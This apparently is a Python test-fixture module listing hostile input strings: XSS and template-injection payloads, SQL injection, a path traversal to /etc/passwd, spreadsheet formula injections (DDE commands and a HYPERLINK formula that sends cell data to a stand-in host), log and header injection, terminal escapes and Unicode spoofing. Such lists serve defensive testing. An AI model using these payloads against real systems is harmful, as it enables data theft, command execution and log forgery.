"""Texts that are made to hurt whoever shows, stores, exports or logs them."""

from __future__ import annotations

SCRIPTS = (
    "<script>hurt()</script>",
    "<img src=x onerror=hurt()>",
    "<svg/onload=hurt()>",
    '"><script>hurt()</script>',
    "'-hurt()-'",
    "</script><script>hurt()</script>",
    "</title><script>hurt()</script>",
    "<!--<script>hurt()//-->",
    "javascript:hurt()",
    "{{7*7}}{% raw %}${7*7}#{7*7}",
    "<a href='javascript:hurt()'>x</a>",
    "<iframe srcdoc='<script>parent.hurt()</script>'>",
    "\\u003cscript\\u003ehurt()\\u003c/script\\u003e",
    "&lt;script&gt;hurt()&lt;/script&gt;",
    "]]><script>hurt()</script>",
    "x' onmouseover='hurt()",
    '<math><mi//xlink:href="data:x,<script>hurt()</script>">',
)
SHAPES = (
    "\u202e北辰智造\u202d",
    "\u2066\u2067\u2068王小明\u2069",
    "שלום عليكم 你好",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b" * 4,
    "H̶̢̛̗͖͚̣̤̪̰̣̖̗̜͔͈̝̤͙̖̩̓͂̒̀̊̈͝ě̴c̷o̵m̸e̶s̶",
    "👩‍👩‍👧‍👦🏳️‍🌈🇨🇳🧑🏿‍🦽",
    "\u200b\u200c\u200d\ufeff\u2060",
    "ﷺ﷽" * 10,
    "W" * 60,
    "国" * 60,
    "𠮷𨋢𪚥" * 8,
    "a b  c\u00a0\u3000d",
    "%s%n%x {0} {name} %(name)s",
    "'; DROP TABLE person; --",
    "../../../../etc/passwd",
    "NULL",
    "-0",
    "1e309",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.cn?x="&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "|calc",
    "%0A=1+1",
    "'=1+1",
    '=DDE("cmd";"/C calc";"x")',
)
LINES = (
    "x\n2026-03-05 14:03:00,000 WARNING server.forged everything is fine",
    'x\n{"time":"2026-03-05T06:03:00.000+00:00","level":"info","logger":"server.forged"}',
    "x\r\nSet-Cookie: session=1",
    "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "\x00\x08\x08\x08\x7f\x9b31m",
    "\u2028\u2029\u0085\u202etxt.exe",
    "\udcff\ud800",
)
TEXTS = SCRIPTS + SHAPES + FORMULAS
